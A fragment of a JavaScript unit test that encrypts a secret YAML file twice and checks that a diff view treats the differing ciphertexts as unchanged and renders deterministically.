    const [base, again] = [await encrypted(), await encrypted()].map((text) => ({
      ...applied('app'),
      'app/secret.yaml': text,
    }));
    const [first, second] = [
      await shown(base ?? {}, again ?? {}, key.identity),
      await shown(base ?? {}, again ?? {}, key.identity),
    ];

    expect(base?.['app/secret.yaml']).not.toBe(again?.['app/secret.yaml']);
    expect(first.base.get('app')).toBe(first.head.get('app'));
    expect(second).toEqual(first);
  });
});
